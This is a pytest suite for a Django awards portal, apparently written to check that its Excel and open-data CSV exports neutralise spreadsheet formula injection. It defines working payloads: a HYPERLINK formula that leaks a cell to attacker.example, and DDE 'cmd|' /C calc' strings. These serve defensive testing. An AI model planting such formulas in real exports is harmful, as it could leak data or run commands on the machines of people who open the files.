"""Formula injection (issue 11, item 2), from the attacker's side: an official titles an entry
(or an agency, a comment, a criterion) with a formula; every workbook and CSV the portal
writes — the score-sheet export (admin action), the ranking export (admin), the cycle's
results workbook (reports, built by the worker) and the open-data CSV — is read back, and the
cell is text with the neutralising `'`, never a formula. Numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from awards import spreadsheets
from awards.models import (
    AssessmentRound,
    Assignment,
    EntryState,
    Result,
    Score,
    ScoreSheet,
)
from portal.reports import requesting
from portal.reports.spreadsheets import (
    SafeDictWriter,
    SafeSheet,
    cell_value,
    neutralise,
    workbook_bytes,
)
from tests.factories import (
    AdminAssessorFactory,
    AdminStaffFactory,
    AgencyFactory,
    CaseStudyFactory,
    CategoryFactory,
    CriterionFactory,
    LessonFactory,
    ScreeningEntryFactory,
    StaffFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"คลิก")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(workbook_or_bytes):
    """Every cell of every sheet, read back with openpyxl from the saved file."""
    if isinstance(workbook_or_bytes, Workbook):
        workbook_or_bytes = workbook_bytes(workbook_or_bytes)
    book = load_workbook(io.BytesIO(workbook_or_bytes))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(found, *payloads):
    formulas = [cell.coordinate for cell in found if cell.data_type == "f"]
    assert not formulas, formulas
    texts = [cell for cell in found if isinstance(cell.value, str)]
    for payload in payloads:
        quoted = [cell for cell in texts if cell.value.startswith("'" + payload)]
        assert quoted, (payload, [cell.value for cell in texts][:20])
        assert all(cell.data_type == "s" for cell in quoted)
        assert not [cell for cell in texts if cell.value.startswith(payload)]  # never raw


# --- The writer itself -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_with_a_trigger_is_quoted(payload):
    assert neutralise(payload) == "'" + payload
    assert cell_value(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["ชื่อผลงาน", "1+1", "a=b", "", "'already quoted", "ข้อความ -5", "2568-01-01"]
)
def test_ordinary_text_is_left_alone(value):
    assert cell_value(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.25"), 0, 42, None, True])
def test_numbers_stay_numbers(value):
    assert cell_value(value) is value
    workbook = Workbook()
    SafeSheet(workbook.active).append([value])
    cell = load_workbook(io.BytesIO(workbook_bytes(workbook))).active["A1"]
    assert cell.value == value and cell.data_type != "s" or value is None


def test_a_negative_number_is_a_number_but_negative_text_is_text():
    workbook = Workbook()
    SafeSheet(workbook.active).append([-5, "-5"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert sheet["A1"].value == -5 and sheet["A1"].data_type == "n"
    assert sheet["B1"].value == "'-5" and sheet["B1"].data_type == "s"


def test_characters_xml_cannot_hold_do_not_break_the_workbook():
    workbook = Workbook()
    SafeSheet(workbook.active).append(["ชื่อ\x01ผลงาน\x1f"])
    assert load_workbook(io.BytesIO(workbook_bytes(workbook))).active["A1"].value == "ชื่อผลงาน"


def test_csv_writer_quotes_text_and_keeps_numbers():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["title", "score"])
    writer.writeheader()
    writer.writerows([{"title": payload, "score": -3} for payload in PAYLOADS])
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [row["title"] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row["score"] for row in rows} == {"-3"}


# --- Every workbook the portal writes ---------------------------------------------------


@pytest.fixture
def hostile():
    """An entry, its agency, a criterion and a score comment, each a formula."""
    agency = AgencyFactory(name_th="+1+cmd|' /C calc'!A0")
    category = CategoryFactory()
    criterion = CriterionFactory(category=category, order=1, title_th="@SUM(1+1)*cmd|' /C calc'!A0")
    entry = ScreeningEntryFactory(category=category, agency=agency, title=HYPERLINK)
    assignment = Assignment.objects.create(
        entry=entry, assessor=AdminAssessorFactory(), round=AssessmentRound.SCREENING
    )
    sheet = ScoreSheet.objects.create(
        assignment=assignment, state=ScoreSheet.State.SUBMITTED, submitted_at=timezone.now()
    )
    Score.objects.create(sheet=sheet, criterion=criterion, value=Decimal(7), comment="-2+3")
    return {"entry": entry, "sheet": sheet, "category": category, "assessor": assignment.assessor}


def test_score_sheet_workbook(hostile):
    found = cells(spreadsheets.build_score_sheets_workbook(ScoreSheet.objects.all()))
    assert_no_formula(found, HYPERLINK, "-2+3")
    assert 7.0 in {cell.value for cell in found}  # the score is still a number


def test_results_and_ranking_workbooks(hostile):
    for workbook in (
        spreadsheets.build_results_workbook(hostile["category"].cycle_id),
        spreadsheets.build_ranking_workbook(hostile["category"]),
    ):
        found = cells(workbook)
        assert_no_formula(found, HYPERLINK, "+1+cmd|' /C calc'!A0")
        assert any("@SUM" in str(cell.value) for cell in found)  # the criterion's column


def test_score_sheet_export_admin_action(client, hostile):
    client.force_login(hostile["assessor"])
    response = client.post(
        "/admin/awards/scoresheet/",
        {"action": "export_xlsx", "_selected_action": [hostile["sheet"].pk]},
    )
    assert response.status_code == 200
    assert_no_formula(cells(response.content), HYPERLINK, "-2+3")


def test_ranking_export_in_the_admin(client, hostile):
    client.force_login(AdminStaffFactory())
    url = reverse("admin:awards_entry_ranking")
    response = client.get(f"{url}?category={hostile['category'].pk}&export=xlsx")
    assert response.status_code == 200
    assert_no_formula(cells(response.content), HYPERLINK, "+1+cmd|' /C calc'!A0")


def test_results_workbook_built_by_the_worker(hostile, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        cycle_id = hostile["category"].cycle_id
        report, _ = requesting.request_report(StaffFactory(), "results", cycle_id)
    report.refresh_from_db()
    try:
        assert report.state == report.State.READY, report.error
        assert_no_formula(cells(report.file.read()), HYPERLINK, "+1+cmd|' /C calc'!A0")
    finally:
        report.file.delete(save=False)


# --- Open data ---------------------------------------------------------------------------


def read_csv(client, dataset):
    response = client.get(f"/opendata/{dataset}.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_open_data_csv(client):
    agency = AgencyFactory(name_th="@SUM(1+1)*cmd|' /C calc'!A0")
    case = CaseStudyFactory(title=HYPERLINK, agency=agency)
    LessonFactory(case_study=case, title="\t=1+1")
    announced = ScreeningEntryFactory(state=EntryState.AWARDED, title="\r=1+1", agency=agency)
    announced.category.cycle.results_published_at = timezone.now() - datetime.timedelta(days=1)
    announced.category.cycle.save()
    Result.objects.create(entry=announced, award_level="good", decided_by=StaffFactory())

    values = {
        dataset: {value for row in read_csv(client, dataset) for value in row.values()}
        for dataset in ("case-studies", "lessons", "agencies", "results")
    }
    assert "'" + HYPERLINK in values["case-studies"]
    assert "'\t=1+1" in values["lessons"]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values["agencies"]
    assert "'\r=1+1" in values["results"]
    for found in values.values():
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in found)
    # JSON, not a spreadsheet format, carries the title as it is.
    records = client.get("/opendata/case-studies.json").json()["records"]
    assert records[0]["title"] == HYPERLINK
